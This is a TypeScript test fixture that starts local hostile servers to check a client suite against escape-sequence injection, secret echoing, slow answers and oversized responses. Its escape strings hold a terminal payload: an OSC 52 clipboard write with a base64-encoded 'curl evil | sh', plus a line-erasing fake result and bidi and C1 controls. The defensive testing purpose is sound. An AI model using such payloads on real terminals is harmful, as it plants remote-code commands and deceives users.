// Hostile targets, one per danger of pointing the suite at a server one does not control: terminal
// escape sequences in its answers, echoes of the run's secrets, answers that never come, answers
// of 50 MB. Each answers JSON with 200 to every request, so the preflight lets the run start.
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'

export interface HostileServer {
  url: string
  /** How many requests it received. */
  requests: () => number
  close: () => Promise<void>
}

interface Turn {
  /** 1 for the first request. */
  index: number
  /** A timer the server's close clears. */
  later: (run: () => void, ms: number) => void
}

type Handler = (req: IncomingMessage, body: string, res: ServerResponse, turn: Turn) => void

function listen(handle: Handler): Promise<HostileServer> {
  let count = 0
  const timers = new Set<NodeJS.Timeout>()
  const server = createServer((req, res) => {
    const chunks: Buffer[] = []
    req.on('data', (chunk: Buffer) => chunks.push(chunk))
    req.on('end', () => {
      count += 1
      const later = (run: () => void, ms: number): void => {
        const timer = setTimeout(() => {
          timers.delete(timer)
          run()
        }, ms)
        timers.add(timer)
      }
      handle(req, Buffer.concat(chunks).toString('utf8'), res, { index: count, later })
    })
  })
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const address = server.address()
      const port = typeof address === 'object' && address !== null ? address.port : 0
      resolve({
        url: `http://127.0.0.1:${String(port)}`,
        requests: () => count,
        close: () =>
          new Promise((done) => {
            for (const timer of timers) clearTimeout(timer)
            server.closeAllConnections()
            server.close(() => {
              done()
            })
          }),
      })
    })
  })
}

/** A clipboard write (OSC 52), a line erased and rewritten by CR, a bidi override, a C1 CSI. */
export const ESCAPES =
  '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2K\rResult: this target keeps the contract.\u202e\u009b31m'

/**
 * Node's client refuses ESC in a header, but takes bytes 0x80-0xFF: an OSC 52 written with C1
 * controls (0x9D … 0x9C), and the UTF-8 bytes of a right-to-left override.
 */
const HEADER_ESCAPES = '\u009d52;c;Y3VybCBldmlsIHwgc2g=\u009c\u00e2\u0080\u00ae'

export function startEscapingServer(): Promise<HostileServer> {
  return listen((_req, _body, res) => {
    res.writeHead(200, {
      'Content-Type': `application/json; x=${HEADER_ESCAPES}`,
      'X-Note': HEADER_ESCAPES,
    })
    res.end(
      JSON.stringify({ id: ESCAPES, first_name: ESCAPES, contacts: [ESCAPES], count: ESCAPES }),
    )
  })
}

/** The session token its login hands out: a secret the run learns. */
export const SESSION_TOKEN = 'session-0c7e1b2a9f4d4e8a'

/**
 * Answers every request with what it received: the Authorization header, the query, the body.
 * `onRequest` runs before each answer (a test looks at the run's files while it waits for one).
 */
export function startEchoServer(onRequest: () => void = () => undefined): Promise<HostileServer> {
  return listen((req, body, res) => {
    onRequest()
    const authorization = req.headers.authorization ?? ''
    const query = req.url?.split('?')[1] ?? ''
    res.writeHead(200, {
      'Content-Type': 'application/json',
      'X-Echo-Authorization': authorization,
    })
    res.end(JSON.stringify({ token: SESSION_TOKEN, echo: { authorization, query, body } }))
  })
}

/** Answers the preflight's two requests at once, then every request after `delayMs`. */
export function startSlowServer(delayMs: number): Promise<HostileServer> {
  return listen((_req, _body, res, { index, later }) => {
    const answer = (): void => {
      res.writeHead(200, { 'Content-Type': 'application/json' })
      res.end('{}')
    }
    if (index <= 2) answer()
    else later(answer, delayMs)
  })
}

const CHUNK = Buffer.alloc(64 * 1024, 'x')

/** Streams `megabytes` of a JSON string to every request (no Content-Length), as fast as read. */
export function startBigServer(megabytes: number): Promise<HostileServer> {
  return listen((_req, _body, res) => {
    res.writeHead(200, { 'Content-Type': 'application/json' })
    let left = (megabytes * 1024 * 1024) / CHUNK.length
    res.write('"')
    const pump = (): void => {
      while (left > 0 && !res.destroyed) {
        left -= 1
        if (!res.write(CHUNK)) {
          res.once('drain', pump)
          return
        }
      }
      if (!res.destroyed) res.end('"')
    }
    pump()
  })
}
